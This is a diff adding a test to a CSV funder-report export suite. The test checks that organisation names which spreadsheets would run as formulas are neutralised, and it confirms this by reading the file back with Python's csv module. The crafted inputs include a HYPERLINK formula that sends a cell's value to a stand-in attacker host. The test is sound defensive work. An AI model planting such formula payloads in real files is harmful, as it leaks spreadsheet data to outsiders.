@@ -214,6 +214,51 @@ describe('funder export', () => {
     for (const line of peopleLines) expect(line.split(';')[2]).not.toMatch(/^"[12]"$/);
   });
 
+  it("neutralises an organisation name a spreadsheet would run as a formula (read back by Python's csv module)", () => {
+    const crafted = [
+      '=HYPERLINK("http://evil.example/?"&A1;"Click")',
+      '+1',
+      '-2',
+      '@SUM(1)',
+      '\tTabbed',
+      '\rReturn',
+    ];
+    const dir = mkdtempSync(path.join(tmpdir(), 'aplis-csv-'));
+    for (const name of crafted) {
+      const report = buildFunderReport({
+        data,
+        organisation: name,
+        from: '2026-01-01',
+        to: '2026-06-30',
+        t: tOf(lv),
+        lng: 'lv',
+      });
+      const file = path.join(dir, 'report.csv');
+      writeFileSync(file, funderCsvText(report, { section: 'S', item: 'I', value: 'V' }));
+      // An independent reader: Python's csv module, as a spreadsheet import would split it.
+      const rows = JSON.parse(
+        execFileSync(
+          'python3',
+          [
+            '-c',
+            'import csv,json,sys\n' +
+              'with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:\n' +
+              '  print(json.dumps(list(csv.reader(f, delimiter=";"))))',
+            file,
+          ],
+          { encoding: 'utf8' },
+        ),
+      ) as string[][];
+      expect(rows[0]![1]).toBe(`'${name}`);
+      // Every row has three cells, and no cell anywhere starts a formula.
+      expect(rows.length).toBeGreaterThan(20);
+      for (const row of rows) {
+        expect(row).toHaveLength(3);
+        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+  });
+
   it('writes a PDF whose text holds the organisation and period but nothing about a person', async () => {
     const report = build('en');
     const fonts = {
